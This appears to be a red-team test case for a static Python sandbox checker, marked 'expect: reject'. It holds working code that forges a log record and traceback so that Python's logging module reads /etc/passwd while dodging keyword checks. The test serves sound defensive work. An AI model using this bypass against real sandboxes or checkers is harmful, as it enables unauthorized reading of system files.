# expect: reject method
# line: 60
# verified: eighth static red team, ok_11 (plain python3 3.11, temp dir: goal reached)
#
# Mechanism: forged traceback through a program-made log record: logging's Handler.handle / Logger.handle accept any object as the record; the program's Rec answers 'exc_info' from __getattr__ (dunder-define allowed; the name exc_info is never spelled), so Formatter.format calls formatException on a forged (type, value, tb) triple; traceback walks tb.tb_frame.f_code.co_filename (all answered by __getattr__ or plain attributes) and linecache opens that path. The checker closes exc_info=, LogRecord's 7th argument, formatException and record.exc_info, but not handing a program object to handle(). (StreamHandler(sys.stdout).handle(Rec()))
# Goal reached: /etc/passwd read (first line printed by the traceback formatter)
# Output under python3 (3.11, throw-away temp dir):
#   hello
#   Traceback (most recent call last):
#     File "/etc/passwd", line 1, in pwned
#       root:x:0:0:root:/root:/bin/bash
#   ValueError: v

import logging
import sys


class Code:
    def __init__(self):
        self.co_filename = "/etc/passwd"
        self.co_name = "pwned"


class Frame:
    def __getattr__(self, name):
        if name.endswith("code"):
            return Code()
        if name.endswith("globals"):
            return {}
        return None


class Tb:
    def __getattr__(self, name):
        if name.endswith("frame"):
            return Frame()
        if name.endswith("lasti"):
            return -1
        if name.endswith("lineno"):
            return 1
        return None


class Rec:
    def __init__(self):
        self.name = "x"
        self.levelname = "WARNING"
        self.levelno = 30
        self.msg = "hello"

    def getMessage(self):
        return self.msg

    def __getattr__(self, name):
        if name.startswith("exc") and not name.endswith("text"):
            return (ValueError, ValueError("v"), Tb())
        return None


logging.StreamHandler(sys.stdout).handle(Rec())
